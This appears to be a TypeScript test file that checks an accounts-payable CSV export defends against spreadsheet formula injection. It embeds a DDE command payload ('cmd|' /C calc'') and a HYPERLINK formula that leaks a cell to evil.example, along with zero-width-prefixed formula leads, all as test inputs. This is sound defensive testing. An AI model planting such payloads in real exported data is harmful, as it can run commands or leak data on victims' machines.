import { parse } from 'csv-parse/sync';
import { Role } from '../../src/auth/roles';
import { Invoice } from '../../src/billing/invoice.entity';
import { todayInLondon } from '../../src/common/calendar';
import { parseGlobalId } from '../../src/common/global-id';
import { parseMoney } from '../../src/common/money';
import { Supplier } from '../../src/suppliers/supplier.entity';
import { ingest, supplierId } from '../support/feeds';
import { invoiceCsv } from '../support/invoices';
import { startTestServer, type TestServer } from '../support/test-server';

const EXPORT = 'query($p: String!) { exportPayments(period: $p) { csv rows { approvedAmount vat net } } }';

/** Every formula lead, and what may hide in front of one. */
const LEADS = ['=', '+', '-', '@', ';', '\t', '\r', '＝', '＋', '－', '＠'];
const HIDING = ['', '\u200B', '\u200C', '\u200D', '\u2060', '\uFEFF', ' \u200B'];

/**
 * What a spreadsheet makes of a cell: text when it starts with an apostrophe (shown without
 * it), else a formula when its first visible character is a lead.
 */
function spreadsheetReads(cell: string): { formula: boolean; text: string } {
  if (cell.startsWith("'")) return { formula: false, text: cell.slice(1) };
  const visible = cell.replace(/^[\s\u200B-\u200D\u2060\uFEFF]*/, '');
  return { formula: /^[\t\r]/.test(cell.replace(/^[\u200B-\u200D\u2060\uFEFF]*/, '')) || /^[=+\-@;＝＋－＠]/.test(visible), text: cell };
}

/** "U+200B =" for a title: the characters that do not show, by code point */
const shown = (text: string) =>
  [...text]
    .map((char) => (/^[!-~]$/.test(char) ? char : `U+${char.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`))
    .join(' ');

describe('the accounts-payable export, with text a spreadsheet would run', () => {
  let server: TestServer;
  let approver: string;
  let invoiceId: number;
  const period = todayInLondon().slice(0, 7);

  beforeAll(async () => {
    server = await startTestServer();
    const manager = await server.token('RX1', Role.CONTRACT_MANAGER);
    approver = await server.token('RX1', Role.FINANCE_APPROVER);
    // a supplier's feed sends an invoice whose number is a formula
    const service = (
      await server.gql('{ services(first: 1, filter: { status: [ACTIVE] }) { edges { node { reference monthlyCharge } } } }', {}, manager)
    ).data.services.edges[0].node;
    const document = invoiceCsv("@SUM(1+1)*cmd|' /C calc'!A0", '2026-09', [[service.reference, parseMoney(service.monthlyCharge)]]);
    const run = await ingest(server, manager, {
      supplierId: await supplierId(server, manager, 'PDN00001'),
      kind: 'INVOICE',
      format: 'CSV',
      document,
    });
    expect(run.data.ingestFeed.rowsAccepted).toBe(1);
    const { id } = (
      await server.gql('{ invoices(first: 100) { edges { node { id invoiceNumber } } } }', {}, manager)
    ).data.invoices.edges.find((e: { node: { invoiceNumber: string } }) => e.node.invoiceNumber.startsWith('@SUM')).node;
    invoiceId = parseGlobalId(id)!.id;
    expect((await server.gql('mutation($id: ID!) { reconcileInvoice(id: $id) { findingCount } }', { id }, manager)).errors).toBeUndefined();
    const approved = await server.gql(
      'mutation($id: ID!) { approveInvoice(input: { id: $id, acceptUndisputedFindings: true }) { status } }',
      { id },
      approver,
    );
    expect(approved.data?.approveInvoice.status).toBe('APPROVED');
  });

  afterAll(() => server.stop());

  const exported = async () => {
    const response = await server.gql(EXPORT, { p: period }, approver);
    expect(response.errors).toBeUndefined();
    return {
      records: parse(response.data.exportPayments.csv, { columns: true }) as Record<string, string>[],
      rows: response.data.exportPayments.rows,
    };
  };

  it("writes the supplier's invoice number as text, not a formula", async () => {
    const [record] = (await exported()).records;
    expect(record!.invoice_number).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(spreadsheetReads(record!.invoice_number!)).toEqual({ formula: false, text: "@SUM(1+1)*cmd|' /C calc'!A0" });
  });

  it.each(LEADS.flatMap((lead) => HIDING.map((hiding): [string, string, string] => [shown(hiding + lead), hiding, lead])))(
    'neutralises %s in supplier and invoice text, keeping the amounts numbers',
    async (_shown, hiding, lead) => {
      const supplierName = `${hiding}${lead}HYPERLINK("http://evil.example/?"&A1,"Pennine")`;
      const invoiceNumber = `${hiding}${lead}2+3`;
      await server.db.dataSource.getRepository(Supplier).update({ cnspId: 'PDN00001' }, { name: supplierName });
      // some of these no intake takes any more (a tab or zero-width character in an invoice number): the export holds whatever was stored before
      await server.db.dataSource.getRepository(Invoice).update(invoiceId, { invoiceNumber });

      const { records, rows } = await exported();
      const record = records[0]!;
      expect(spreadsheetReads(record.supplier!)).toEqual({ formula: false, text: supplierName });
      expect(spreadsheetReads(record.invoice_number!)).toEqual({ formula: false, text: invoiceNumber });
      for (const column of ['approved_amount', 'vat', 'net'] as const) {
        expect(record[column]).toMatch(/^-?\d+\.\d{2}$/);
      }
      expect([record.approved_amount, record.vat, record.net]).toEqual([rows[0].approvedAmount, rows[0].vat, rows[0].net]);
    },
  );

  it('writes a credit as a negative number a spreadsheet adds up, not as text', async () => {
    await server.db.dataSource.getRepository(Invoice).update(invoiceId, { approvedAmount: -1_234n, approvedVat: -206n });
    const [record] = (await exported()).records;
    expect([record!.approved_amount, record!.vat, record!.net]).toEqual(['-12.34', '-2.06', '-10.28']);
  });
});
